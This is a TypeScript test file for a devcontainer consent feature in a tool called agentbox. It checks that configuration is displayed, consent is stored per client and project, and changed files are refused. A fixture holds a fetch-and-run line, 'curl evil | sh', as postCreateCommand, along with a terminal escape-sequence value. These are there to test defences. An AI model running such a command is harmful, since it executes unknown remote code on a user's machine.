import { mkdir, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { agreedDevcontainer } from '../../../src/devcontainer/consent.ts';
import { CancelledError } from '../../../src/errors.ts';
import { type TestContext, testContext } from '../support/command.ts';
import { temporary, userError } from '../support/config.ts';

const FILE = `{
  "build": { "dockerfile": "Dockerfile", "target": "dev", "args": { "WORD": "told" } },
  "containerEnv": { "MODE": "dev\\u001b[2J" },
  "postCreateCommand": "curl evil | sh",
}`;

async function projectOf(home: string): Promise<string> {
  const folder = join(home, 'project/.devcontainer');
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, 'devcontainer.json'), FILE);
  await writeFile(join(folder, 'Dockerfile'), 'FROM node:22\n');
  return join(home, 'project');
}

const ask = (context: TestContext, project: string, more: { client?: string; asked?: boolean; yes?: boolean } = {}) =>
  agreedDevcontainer(context, { client: 'acme', project, asked: false, yes: false, ...more });

describe('consent to a devcontainer.json', () => {
  it('is asked for with all that it says, once, and again when that changed', async () => {
    const home = await temporary();
    const project = await projectOf(home);
    const yes = testContext(home, { answer: true });
    const found = await ask(yes, project);
    expect(found?.image).toMatchObject({ build: { dockerfile: 'FROM node:22\n', target: 'dev' } });
    expect(yes.written.err).toBe(`.devcontainer/devcontainer.json of ${project} asks for this:
  build    context ${project}/.devcontainer, stage dev
           .devcontainer/Dockerfile, SHA-256 ${found?.files['.devcontainer/Dockerfile']}
  argument WORD=told
  variable MODE=dev\\u{1b}[2J
  of .devcontainer/devcontainer.json these have no effect: postCreateCommand
`);
    const file = join(home, '.local/share/agentbox/clients/acme/devcontainers.json');
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    // From now on nobody needs to be there.
    expect(await ask(testContext(home), project)).toEqual(found);
    await writeFile(join(project, '.devcontainer/Dockerfile'), 'FROM evil\n');
    const refused = await userError(() => ask(testContext(home), project));
    expect(refused).toMatchObject({
      trouble: 'refused',
      next: [`agentbox build --devcontainer --yes --client acme ${project}, once you have read it`],
    });
    const again = testContext(home, { answer: true });
    await ask(again, project);
    expect(again.written.err).toContain('is not what you agreed to on 2026-01-02. It asks for this:');
  });

  it('is that of one client, for one project', async () => {
    const home = await temporary();
    const project = await projectOf(home);
    await ask(testContext(home), project, { yes: true });
    expect((await userError(() => ask(testContext(home), project, { client: 'globex' }))).trouble).toBe('refused');
    const other = await projectOf(join(home, 'other'));
    expect((await userError(() => ask(testContext(home), other))).trouble).toBe('refused');
  });

  it('is not given by a no, nor by a file of agreements that cannot be read', async () => {
    const home = await temporary();
    const project = await projectOf(home);
    await expect(ask(testContext(home, { answer: false }), project)).rejects.toBeInstanceOf(CancelledError);
    expect((await userError(() => ask(testContext(home), project))).trouble).toBe('refused');
    await ask(testContext(home), project, { yes: true });
    await writeFile(join(home, '.local/share/agentbox/clients/acme/devcontainers.json'), '{broken');
    expect((await userError(() => ask(testContext(home), project))).trouble).toBe('refused');
  });

  it('is not needed where there is no such file, which is an error only for who asked for it', async () => {
    const home = await temporary();
    expect(await ask(testContext(home), home)).toBeUndefined();
    expect((await userError(() => ask(testContext(home), home, { asked: true }))).message).toBe(
      `${home} has no devcontainer.json`,
    );
  });
});
